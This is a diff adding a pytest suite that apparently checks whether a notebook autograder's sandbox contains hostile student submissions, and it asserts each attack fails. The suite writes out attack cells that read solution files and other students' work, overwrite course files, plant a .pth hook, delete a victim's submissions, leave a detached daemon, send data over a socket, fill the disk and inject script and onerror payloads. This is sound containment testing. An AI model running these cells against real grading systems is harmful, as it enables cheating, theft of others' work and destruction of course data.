@@ -1,0 +1,232 @@
+"""Hostile notebooks graded with ``python -m autograder grade``: nothing they do reaches
+the course, the grader, another student or the network, and nothing of the solution
+reaches them.
+
+Each attacker hands in the blank release plus one cell of attack, so any solution
+text found in what they get back is a leak. The honest and victim students keep
+their exact scores, the course's files stay byte-identical, and no process an
+attacker started outlives grading.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import socket
+import subprocess
+import sys
+import sysconfig
+import threading
+from pathlib import Path
+
+import pytest
+from nbgrader.api import Gradebook
+
+from autograder import submissions
+from autograder.course import db_url, make_course, submit
+from autograder.paths import course_root, solution_notebook
+from autograder.verify import grade_cells
+
+pytestmark = pytest.mark.xdist_group("containment")
+
+A = "assign_5a"
+POINTS = {fn: p for fn, (_, p) in grade_cells(A).items()}
+MARKER = "containment-daemon-7f3a"
+# Lines of the reference solution that no release notebook contains.
+SOLUTION_LINES = ("np.tanh(Waa @ a_prev + Wax @ xt + ba)", "h_tilde = np.tanh(")
+
+
+def _attacks(course: Path, port: int) -> dict[str, str]:
+    """student -> the code cell of their attack (they know where the course lives)."""
+    repo = course_root()
+    return {
+        "reads_solutions": f"""
+import pathlib, autograder
+for root in (pathlib.Path(autograder.__file__).resolve().parents[1], pathlib.Path({str(repo)!r}),
+             pathlib.Path({str(course)!r})):
+    for nb in root.glob("solutions/*/*.ipynb"):
+        print(nb.read_text())
+""",
+        "reads_other_students": f"""
+import pathlib
+for nb in pathlib.Path({str(course)!r}).glob("submitted/*/*/*.ipynb"):
+    print(nb.read_text())
+""",
+        "rewrites_the_course": f"""
+import pathlib, site, sysconfig
+course, repo = pathlib.Path({str(course)!r}), pathlib.Path({str(repo)!r})
+targets = [course / "gradebook.db", course / "nbgrader_config.py", repo / "autograder" / "judge.py",
+           *course.glob("grading/*/*.json"), *course.glob("submitted/victim/*/*.ipynb"),
+           pathlib.Path(sysconfig.get_paths()["purelib"]) / "zz_attack.pth"]
+for t in targets:
+    try:
+        t.write_text("owned")
+    except OSError as e:
+        print("blocked", t, type(e).__name__)
+import shutil
+shutil.rmtree(course / "submitted" / "victim", ignore_errors=True)
+""",
+        "leaves_a_daemon": f"""
+import os, subprocess
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv("/bin/sh", ["/bin/sh", "-c", "exec -a {MARKER} sleep 600"])
+    os._exit(0)
+""",
+        "phones_home": f"""
+import socket
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
+except OSError as e:
+    print("no network:", e)
+""",
+        "fills_the_disk": f"""
+import os, pathlib
+for folder in (".", "/tmp", {str(course)!r}):
+    try:
+        with open(os.path.join(folder, "big.bin"), "wb") as f:
+            for _ in range(2048):
+                f.write(b"x" * 1024**2)
+    except OSError as e:
+        print("stopped:", type(e).__name__)
+""",
+        "prints_helper_source": """
+import inspect
+def rnn_forward(x, a0, parameters):
+    for name in ("rnn_cell_forward", "softmax"):
+        try:
+            print(inspect.getsource(globals()[name]))
+        except Exception as e:
+            print(name, type(e).__name__)
+    raise ValueError("<script>alert('owned')</script>")
+
+from IPython.display import HTML, display
+display(HTML("<script>alert('owned2')</script><img src=x onerror=alert(3)>"))
+""",
+    }
+
+
+def _tree_hashes(*roots: Path) -> dict[str, str]:
+    out = {}
+    for root in roots:
+        for p in sorted(root.rglob("*")):
+            if p.is_file() and "__pycache__" not in p.parts:
+                out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
+    return out
+
+
+def _pth_files() -> list[str]:
+    folders = {sysconfig.get_paths()[k] for k in ("purelib", "platlib")}
+    return sorted(str(p) for folder in folders for p in Path(folder).glob("*.pth"))
+
+
+def _running_with(marker: str) -> list[str]:
+    found = []
+    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
+        try:
+            text = cmdline.read_bytes().replace(b"\0", b" ").decode(errors="replace")
+        except OSError:
+            continue
+        if marker in text:
+            found.append(text)
+    return found
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory: pytest.TempPathFactory):
+    course = make_course(tmp_path_factory.mktemp("contained") / "course")
+    received: list[bytes] = []
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    server.settimeout(0.5)
+    stop = threading.Event()
+
+    def listen() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+                received.append(conn.recv(100))
+            except OSError:
+                continue
+
+    threading.Thread(target=listen, daemon=True).start()
+    attacks = _attacks(course, server.getsockname()[1])
+    full, blank = submissions.completed(A), submissions.release(A)
+    submit(course, "honest", A, full)
+    submit(course, "victim", A, full)
+    for student, code in attacks.items():  # the last definition of a function is the one graded
+        after = None if "def rnn_forward" in code else "code_setup"
+        submit(course, student, A, submissions.add_cell(blank, code, after=after))
+    # what must not change: the course's inputs, the package, site-packages' hooks
+    watched = [
+        course / "solutions",
+        course / "submitted",
+        course_root() / "autograder",
+        course_root() / "solutions",
+    ]
+    before = _tree_hashes(*watched)
+    config = (course / "nbgrader_config.py").read_bytes()
+    pth = _pth_files()
+    cmd = [sys.executable, "-m", "autograder", "grade", A, "--course", str(course), "--workers", "2"]
+    run = subprocess.run(cmd, capture_output=True, text=True, timeout=1200, check=False)
+    stop.set()
+    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
+    after = _tree_hashes(*watched)
+    return course, attacks, run, before, after, config, pth, received
+
+
+def test_honest_victim_and_attackers_get_exact_scores(attacked) -> None:
+    course, attacks, *_ = attacked
+    with Gradebook(db_url(course)) as gb:
+        for student in ("honest", "victim", *attacks):
+            got = {fn: gb.find_grade(gid, A, A, student).score for fn, (gid, _) in grade_cells(A).items()}
+            want = POINTS if student in ("honest", "victim") else dict.fromkeys(POINTS, 0.0)
+            assert got == want, (student, got)
+
+
+def test_course_package_and_python_are_unchanged(attacked) -> None:
+    course, _, _, before, after, config, pth, _ = attacked
+    assert after == before
+    assert (course / "nbgrader_config.py").read_bytes() == config
+    assert _pth_files() == pth
+    assert not list(course.rglob("big.bin"))
+
+
+def test_no_attacker_process_survives(attacked) -> None:
+    assert not _running_with(MARKER)
+
+
+def test_no_network(attacked) -> None:
+    *_, received = attacked
+    assert received == []
+
+
+def test_nothing_of_the_solution_comes_back(attacked) -> None:
+    course, attacks, *_ = attacked
+    assert SOLUTION_LINES[0] in solution_notebook(A).read_text()  # the probe is a real solution line
+    for student in attacks:
+        for kind in ("autograded", "feedback"):
+            for path in (course / kind / student).rglob("*.*"):
+                text = path.read_text(errors="replace")
+                for line in SOLUTION_LINES:
+                    assert line not in text, f"{student}'s {kind} {path.name} holds {line!r}"
+
+
+def test_student_text_is_escaped_in_feedback(attacked) -> None:
+    course, *_ = attacked
+    html = (course / "feedback" / "prints_helper_source" / A / f"{A}.html").read_text()
+    # live markup only: the same text escaped (in the code cell, in the message) is harmless
+    assert "<script>alert('owned')" not in html  # an exception message, in the trusted summary
+    assert "<script>alert('owned2')" not in html and "<img src=x onerror" not in html  # displayed HTML
+    assert "raised ValueError: &lt;script&gt;alert('owned')" in html  # the message is shown, as text
+
+
+def test_grading_refuses_without_the_sandbox(tmp_path: Path) -> None:
+    """With bubblewrap unavailable, grade says why in one line and runs nothing."""
+    env = {**os.environ, "AUTOGRADER_SANDBOX": "subprocess"}
+    cmd = [sys.executable, "-m", "autograder", "grade", A, "--course", str(tmp_path)]
+    run = subprocess.run(cmd, capture_output=True, text=True, env=env, timeout=300, check=False)
+    assert run.returncode != 0
+    assert "Refusing to run student code" in run.stderr and "apt-get install bubblewrap" in run.stderr
